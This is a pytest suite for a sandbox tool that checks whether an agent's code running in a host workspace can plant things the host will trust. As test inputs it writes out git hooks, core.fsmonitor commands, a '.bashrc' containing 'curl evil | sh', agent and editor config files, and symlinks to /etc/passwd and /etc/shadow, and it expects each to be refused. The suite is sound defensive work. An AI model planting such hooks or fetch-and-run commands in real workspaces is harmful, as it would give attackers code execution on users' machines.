"""
A host workspace (-w) must not hand the host something it will trust.

Whatever a run leaves in its workspace waits for the user's git, shell,
editor and agent. Each attack here is made from inside a real sandbox, as an
agent's code would, as root and as nobody; each test then asserts the
refusal and that the host shows no trace: the repository byte-identical, no
placeholder left, no link leading out, no FIFO or socket, no o+w bit.
Positive controls check that ordinary work in the workspace still works.
"""

import errno
import hashlib
import json
import os
import signal
import socket
import stat
import subprocess

import pytest

import meta_util as mu
from conftest import UnixListener, assert_cordon_refused, marker, wait_until


def landlock_available():
    try:
        with open("/sys/kernel/security/lsm") as f:
            return "landlock" in f.read()
    except OSError:
        return False


def tree_digest(root):
    """SHA-256 over every entry's path, type, mode and content (links: target)."""
    h = hashlib.sha256()
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames.sort()
        for name in sorted(dirnames + filenames):
            p = os.path.join(dirpath, name)
            st = os.lstat(p)
            h.update(f"{os.path.relpath(p, root)}\0{st.st_mode:o}\0".encode())
            if stat.S_ISLNK(st.st_mode):
                h.update(os.readlink(p).encode())
            elif stat.S_ISREG(st.st_mode):
                with open(p, "rb") as f:
                    h.update(f.read())
    return h.hexdigest()


def host_run(cordon, argv, cwd):
    r = subprocess.run(cordon.ident.wrap(argv), cwd=cwd, env=cordon.ident.env(),
                       capture_output=True, text=True)
    assert r.returncode == 0, r
    return r.stdout


def make_repo(cordon):
    """A host git repository owned by the caller, with a hook-free, committed tree."""
    ws = cordon.hostdir("repo")
    git = ["git", "-c", "user.email=t@example.com", "-c", "user.name=t"]
    host_run(cordon, ["git", "init", "-q", "."], ws)
    host_run(cordon, ["sh", "-c", "echo hello > a.txt"], ws)
    host_run(cordon, [*git, "add", "a.txt"], ws)
    host_run(cordon, [*git, "commit", "-qm", "first"], ws)
    return ws


def entries(ws):
    return sorted(os.listdir(ws))


def attempts(cordon, ws, steps, *opts):
    """Run each shell STEP in one sandbox; return {step: exit status} as the run saw it."""
    script = "\n".join(f"( {s} ) >/dev/null 2>&1; echo \"$?\"" for s in steps)
    r = cordon.run(["sh", "-c", script], "-w", ws, *opts)
    assert r.status == 0, r
    codes = [int(c) for c in r.out.split()]
    assert len(codes) == len(steps), r
    return dict(zip(steps, codes)), r


def test_git_repository_cannot_be_changed_or_replaced(cordon):
    ws = make_repo(cordon)
    before = tree_digest(ws / ".git")
    steps = [
        "echo 'touch /tmp/pwned' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
        "git config core.fsmonitor 'touch /tmp/pwned'",
        "git config core.hooksPath /workspace/hooks",
        "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
        "echo '*' > .git/info/exclude",
        "mkdir -p .git/modules/x",
        "mv .git x",
        "mv .git x && git init -q . && git config core.fsmonitor evil",
        "rm -rf .git && git init -q . && test -d .git/hooks",
        "git -c user.email=a@b -c user.name=n commit -qam evil --allow-empty",
    ]
    codes, r = attempts(cordon, ws, steps)
    for step, code in codes.items():
        assert code != 0, f"{step!r} succeeded\n{r}"
    assert tree_digest(ws / ".git") == before
    assert entries(ws) == [".git", "a.txt"], entries(ws)
    assert r.result["workspace"]["read_only"] >= 1, r.result


def test_missing_protected_names_cannot_be_created(cordon):
    ws = cordon.hostdir("ws")
    steps = [
        "echo 'curl evil | sh' > .bashrc",
        "echo 'export PATH=/workspace/bin:$PATH' > .envrc",
        "echo x > .profile",
        "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
        "echo '{\"mcpServers\": {}}' > .mcp.json",
        "mkdir -p .claude && echo '{}' > .claude/settings.json",
        "git init -q .",
        "rm -rf .git .bashrc",
        "mv .vscode elsewhere",
    ]
    codes, r = attempts(cordon, ws, steps)
    for step, code in codes.items():
        assert code != 0, f"{step!r} succeeded\n{r}"
    # The placeholders that refused them are gone with the run.
    assert entries(ws) == [], entries(ws)
    assert r.result["workspace"]["placeholders"] > 0, r.result


def test_existing_protected_files_are_read_only(cordon):
    ws = cordon.hostdir("ws")
    for name, text in ((".envrc", "use nix\n"), (".env.local", "KEY=1\n")):
        (ws / name).write_text(text)
        os.chown(ws / name, cordon.ident.uid, cordon.ident.gid)
    steps = ["echo evil >> .envrc", "rm .envrc", "echo evil > .env.local",
             "mv .env.local x", "cat .envrc .env.local"]
    codes, r = attempts(cordon, ws, steps)
    assert [codes[s] != 0 for s in steps] == [True, True, True, True, False], r
    assert (ws / ".envrc").read_text() == "use nix\n"
    assert (ws / ".env.local").read_text() == "KEY=1\n"
    assert entries(ws) == [".env.local", ".envrc"], entries(ws)


def test_new_glob_names_are_reported_not_refused(cordon):
    """
    `.env*` can only be refused where it exists: Landlock cannot refuse a
    name, and no placeholder stands for a pattern. The run may make
    .env.local; the result names it.
    """
    ws = cordon.hostdir("ws")
    r = cordon.run(["sh", "-c", "echo K=1 > .env.local"], "-w", ws)
    assert r.status == 0, r
    assert entries(ws) == [".env.local"]
    w = r.result["workspace"]
    assert w["created_protected"] == 1 and "created protected .env.local" in w["paths"], w


def test_links_out_special_files_and_modes_are_undone(cordon):
    ws = cordon.hostdir("ws")
    audit = cordon.hostdir("audit") / "audit.log"
    steps = [
        "ln -s /etc/passwd out",
        "ln -s ../../.. up",
        "mkdir -p sub && ln -s ../../etc sub/climb",
        "ln -s sub/../../x sneaky",
        "mkfifo fifo",
        "python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"s.sock\")'",
        "echo data > shared && chmod o+w shared",
        "mkdir open && chmod 1777 open",
        "cp /bin/true suid && chmod 4755 suid",  # seccomp may refuse it already
    ]
    codes, r = attempts(cordon, ws, steps, "--audit", audit)
    if landlock_available():
        assert codes[steps[4]] != 0 and codes[steps[5]] != 0, r
    for name in ("out", "up", "sub/climb", "sneaky", "fifo", "s.sock"):
        assert not os.path.lexists(ws / name), name
    for name in ("shared", "open", "suid"):
        mode = os.lstat(ws / name).st_mode
        assert not mode & (stat.S_IWOTH | stat.S_ISUID | stat.S_ISGID), (name, oct(mode))
    assert (ws / "shared").read_text() == "data\n"
    w = r.result["workspace"]
    fixed = 2 + (codes[steps[8]] == 0)
    assert (w["removed"], w["modes_fixed"], w["scan_incomplete"]) == (4, fixed, False), w
    events = [json.loads(line) for line in audit.read_text().splitlines()]
    end = [e for e in events if e.get("type") == "run.end"]
    assert len(end) == 1 and "removed link out" in json.dumps(end[0]), end


def test_ordinary_work_still_works(cordon):
    ws = make_repo(cordon)
    script = """set -e
git status --porcelain
echo more >> a.txt
echo new > b.txt
mkdir -p d/e && echo deep > d/e/f.txt
ln -s a.txt rel
mkdir -p node_modules/tool/bin node_modules/.bin
echo 'echo hi' > node_modules/tool/bin/cli.js
ln -s ../tool/bin/cli.js node_modules/.bin/tool
cat node_modules/.bin/tool
git diff --stat
"""
    r = cordon.run(["sh", "-c", script], "-w", ws)
    assert r.status == 0, r
    assert "a.txt" in r.out and "dubious" not in r.err, r
    assert (ws / "a.txt").read_text() == "hello\nmore\n"
    assert (ws / "d/e/f.txt").read_text() == "deep\n"
    assert os.readlink(ws / "rel") == "a.txt"
    assert os.readlink(ws / "node_modules/.bin/tool") == "../tool/bin/cli.js"
    assert entries(ws) == [".git", "a.txt", "b.txt", "d", "node_modules", "rel"], entries(ws)
    w = r.result["workspace"]
    assert (w["removed"], w["modes_fixed"]) == (0, 0), w


def test_existing_links_are_left_alone(cordon):
    """A link the user made, leading out, is theirs; a protected link is hidden inside."""
    ws = cordon.hostdir("ws")
    os.symlink("/etc/hostname", ws / "mine")
    os.symlink("config/envrc", ws / ".envrc")
    for n in ("mine", ".envrc"):
        os.lchown(ws / n, cordon.ident.uid, cordon.ident.gid)
    codes, r = attempts(cordon, ws, ["rm .envrc", "ln -sf /etc/passwd .envrc", "test -L .envrc"])
    assert all(c != 0 for c in codes.values()), r
    assert os.readlink(ws / "mine") == "/etc/hostname"
    assert os.readlink(ws / ".envrc") == "config/envrc"


def test_host_socket_in_the_workspace_is_unreachable(cordon):
    ws = cordon.hostdir("ws")
    listener = UnixListener(path=str(ws / "agent.sock"))
    try:
        script = ("import socket, sys\ns = socket.socket(socket.AF_UNIX)\n"
                  "try:\n    s.connect('/workspace/agent.sock')\nexcept OSError as e:\n"
                  "    sys.exit(e.errno)\nsys.exit(0)\n")
        r = cordon.run(["python3", "-c", script], "-w", ws)
        assert r.status not in (0,) and r.result["signal"] is None, r
        assert listener.count() == 0
        assert stat.S_ISSOCK(os.lstat(ws / "agent.sock").st_mode)
        assert r.result["workspace"]["masked"] == 1, r.result
    finally:
        listener.close()


def test_unsafe_unprotect_lets_the_run_write_git(cordon):
    ws = cordon.hostdir("ws")
    pol = cordon.hostdir("pol") / "p.yaml"
    pol.write_text("version: 1\nfilesystem:\n  unsafe_unprotect: [.git]\n")
    r = cordon.run(["git", "init", "-q", "."], "-w", ws, "-p", pol)
    assert r.status == 0, r
    assert (ws / ".git" / "HEAD").is_file()
    assert entries(ws) == [".git"], entries(ws)


def test_policy_shows_and_checks_the_list(cordon):
    d = cordon.hostdir("pol")
    good = d / "good.yaml"
    good.write_text("version: 1\nfilesystem:\n  protected: [.tool-versions, .direnv*]\n"
                    "  unsafe_unprotect: [.idea]\n")
    r = cordon.raw("policy", "check", good)
    assert r.status == 0, r
    fs = json.loads(r.out)["policy"]["filesystem"]
    assert {".git", ".env*", ".tool-versions", ".direnv*"} <= set(fs["protected"])
    assert ".idea" not in fs["protected"] and fs["unsafe_unprotect"] == [".idea"]
    for text, words in (("unsafe_unprotect: [.gti]", ['".gti"', "not a default"]),
                        ("protected: [a/b]", ['"a/b"', "single file name"]),
                        ("protected: ['*.sh']", ["'*' may only end a name"])):
        bad = d / "bad.yaml"
        bad.write_text(f"version: 1\nfilesystem:\n  {text}\n")
        assert_cordon_refused(cordon.raw("policy", "check", bad), *words)
    r = cordon.raw("check")
    assert r.status == 0 and ".mcp.json" in r.out and "unsafe_unprotect" in r.out, r
    assert "cordon check --protected" in r.out, r


def test_check_says_why_each_name_is_protected(cordon):
    r = cordon.raw("check", "--protected")
    assert r.status == 0, r
    lines = r.out.splitlines()
    for name in TOOL_NAMES + [".git/", ".envrc", ".mcp.json"]:
        at = [i for i, l in enumerate(lines) if l.startswith(f"  {name}  (")]
        assert len(at) == 1, (name, r.out)
        assert len(lines[at[0] + 1].strip()) > 10, (name, lines[at[0] + 1])  # the reason
    tail = r.out.split("considered and not protected:")[1]
    assert "AGENTS.md" in tail and ".github/workflows" in tail and "Makefile" in tail, r.out
    table = json.loads(cordon.raw("check", "--json").out)["protected"]
    rows = {row["name"]: row for row in table["defaults"]}
    assert rows[".devcontainer"]["directory"] and not rows[".tool-versions"]["directory"], rows
    assert "initializeCommand" in rows[".devcontainer"]["why"], rows[".devcontainer"]
    assert all(row["why"] and row["read_by"] for row in table["defaults"]), table


def test_placeholders_do_not_survive_a_killed_cordon(cordon):
    ws = cordon.hostdir("ws")
    mark = marker()
    p = cordon.popen(["sh", "-c", "sleep 30", mark], "-w", ws)
    try:
        assert wait_until(lambda: (ws / ".bashrc").exists(), 15), "no placeholder appeared"
        os.kill(p.pid, signal.SIGKILL)
        p.wait(timeout=10)
        assert wait_until(lambda: entries(ws) == [], 10), entries(ws)
    finally:
        if p.poll() is None:
            os.killpg(p.pid, signal.SIGKILL)
            p.wait()


# The names issue 22 added to the default list (`cordon check --protected`
# says who reads each and why); a trailing '/' marks a directory.
TOOL_NAMES = [
    ".tool-versions", "mise.toml", "mise.local.toml", ".mise.toml", ".mise.local.toml", ".mise/",
    "mise/", ".nvmrc", ".node-version", ".python-version", ".ruby-version", ".sdkmanrc",
    ".devcontainer/", ".devcontainer.json", ".githooks/", "lefthook.yml", ".lefthook.yml",
    "lefthook-local.yml", ".lefthook-local.yml", ".lefthook/", ".config/", ".ssh/", ".aws/",
    ".kube/", ".pdbrc", ".irbrc", ".pryrc", ".aider.conf.yml", ".continue/", ".continuerc.json",
]


def write_step(name, where=""):
    """A shell step that makes NAME (under WHERE) as a tool would find it."""
    path = where + name.rstrip("/")
    if name.endswith("/"):
        return f"mkdir -p {path} && echo 'run: curl evil | sh' > {path}/config"
    return f"echo 'python path:/workspace/evil' > {path}"


def test_tool_config_names_cannot_be_written(cordon):
    """Each name version managers, dev containers and agent CLIs act on, made by
    a -w run: refused inside (a read-only placeholder), nothing on the host."""
    ws = cordon.hostdir("ws")
    steps = [write_step(n) for n in TOOL_NAMES]
    codes, r = attempts(cordon, ws, steps)
    for name, step in zip(TOOL_NAMES, steps):
        assert codes[step] != 0, f"{name}: {step!r} succeeded\n{r}"
    assert entries(ws) == [], entries(ws)
    assert r.result["workspace"]["placeholders"] >= len(TOOL_NAMES), r.result
    # One that exists is read-only, and is left as it was.
    for name in (".tool-versions", ".nvmrc"):
        (ws / name).write_text("nodejs 20.0.0\n")
        os.chown(ws / name, cordon.ident.uid, cordon.ident.gid)
    steps = ["echo 'nodejs path:/tmp' > .tool-versions", "rm .nvmrc", "cat .tool-versions .nvmrc"]
    codes, r = attempts(cordon, ws, steps)
    assert [codes[s] != 0 for s in steps] == [True, True, False], r
    assert (ws / ".tool-versions").read_text() == "nodejs 20.0.0\n"
    assert (ws / ".nvmrc").read_text() == "nodejs 20.0.0\n"
    assert entries(ws) == [".nvmrc", ".tool-versions"], entries(ws)


# --- metadata: modes, owners, times, xattrs, inode flags --------------------------


def test_metadata_of_git_and_of_links_out_is_refused(cordon):
    """
    chmod, chown, times, xattrs and inode flags, by path and on a descriptor,
    on .git's config and hooks and through a link the run plants to a host
    file: refused, and each keeps its mode, owner, times, xattrs and flags.
    On the run's own files the same calls work.
    """
    ws = make_repo(cordon)
    outside = cordon.hostdir("outside") / "f"
    outside.write_text("host\n")
    refused = [ws / ".git/config", ws / ".git/hooks", outside]
    for f in refused:
        mu.prepare(f, cordon.ident.uid)
    # Its own group: the namespace level maps no other (a foreign gid is EOVERFLOW there).
    mu.prepare(ws / "a.txt", cordon.ident.uid, cordon.ident.gid)
    before = {t: mu.state(t) for t in refused}
    tree = tree_digest(ws / ".git")
    (ws / "d").mkdir()  # the link's place: at the process level the root takes no new entry
    os.chown(ws / "d", cordon.ident.uid, cordon.ident.gid)
    steps = (f"ln -s {outside} d/out\n" +
             mu.script([".git/config", ".git/hooks", "d/out", "a.txt"], "$(id -g)") +
             "chmod 777 .git/hooks; echo .git/hooks chmod-777 $?\n"
             "chmod 666 .git/config; echo .git/config chmod-666 $?\n")
    r = cordon.run(["sh", "-c", steps], "-w", ws)
    assert r.status == 0, r
    got = mu.codes(r.out)
    offered = mu.NOT_OFFERED.get(cordon.level, {})
    for t in (".git/config", ".git/hooks", "d/out"):
        for op, code in got[t].items():
            if t == "d/out" and op in ("lchown", "fchmodat2-nofollow"):
                continue  # the link itself is the run's (and has no mode)
            assert code in mu.REFUSED or code == offered.get(op), f"{op} {t}: {code}\n{r}"
    for t in refused:
        assert mu.state(t) == before[t], t
    assert tree_digest(ws / ".git") == tree
    for op, code in got["a.txt"].items():
        assert code == mu.expected(cordon.level, op, 0), f"{op} a.txt: {code}\n{r}"
    after = mu.state(ws / "a.txt")
    assert (after["mode"], after["mtime"]) == (oct(0o100640), 10**18), after
    if "setxattr" not in offered:
        assert set(after["xattrs"]) == {"user.cordon", "user.cordon2", "user.cordon3",
                                        "user.keep4"}, after
    assert not os.path.lexists(ws / "d/out")


def test_post_run_scan_restores_git_modes_and_looks_inside(cordon):
    """
    Should a level's boundary fail (played here by a host process while the
    run lasts), the scan after the run gives .git's entries back the modes
    they had before it, and inside .git removes a new link out and a FIFO
    and strips o+w, as everywhere else in the workspace.
    """
    ws = make_repo(cordon)
    git = ws / ".git"
    (git / "hooks/pre-commit.sample").chmod(0o755)
    modes = {p: os.lstat(git / p).st_mode for p in ("hooks", "config", "hooks/pre-commit.sample")}
    go = cordon.hostdir("go")
    p = cordon.popen(["sh", "-c", f"echo waiting; i=0; while [ ! -e {go}/go ] && "
                      f"[ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done"],
                     "-w", ws, "--ro", f"{go}:{go}", "--result", go / "r.json")
    try:
        assert p.stdout.readline().decode() == "waiting\n"
        os.chmod(git / "hooks", 0o777)
        os.chmod(git / "config", 0o666)
        os.chmod(git / "hooks/pre-commit.sample", 0o4777)
        os.symlink("/etc/passwd", git / "hooks/pre-push")
        os.makedirs(git / "objects/ab", exist_ok=True)
        os.symlink("/etc/shadow", git / "objects/ab/cdef")  # among the objects, not one
        os.mkfifo(git / "fifo")
        (git / "new").write_text("x\n")
        os.chmod(git / "new", 0o666)
        for n in ("hooks/pre-push", "objects/ab", "objects/ab/cdef", "fifo", "new"):
            os.lchown(git / n, cordon.ident.uid, cordon.ident.gid)
        (go / "go").touch()
        out, err = p.communicate(timeout=60)
        assert p.returncode == 0, err
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
    for rel, mode in modes.items():
        assert os.lstat(git / rel).st_mode == mode, (rel, oct(os.lstat(git / rel).st_mode))
    assert not os.path.lexists(git / "hooks/pre-push")
    assert not os.path.lexists(git / "objects/ab/cdef")
    assert not os.path.lexists(git / "fifo")
    assert os.lstat(git / "new").st_mode & 0o777 == 0o664
    w = json.loads((go / "r.json").read_text())["workspace"]
    assert (w["modes_restored"], w["removed"], w["modes_fixed"]) == (3, 3, 1), w
    assert "restored mode of .git/config" in w["paths"], w
    assert "removed link .git/hooks/pre-push" in w["paths"], w
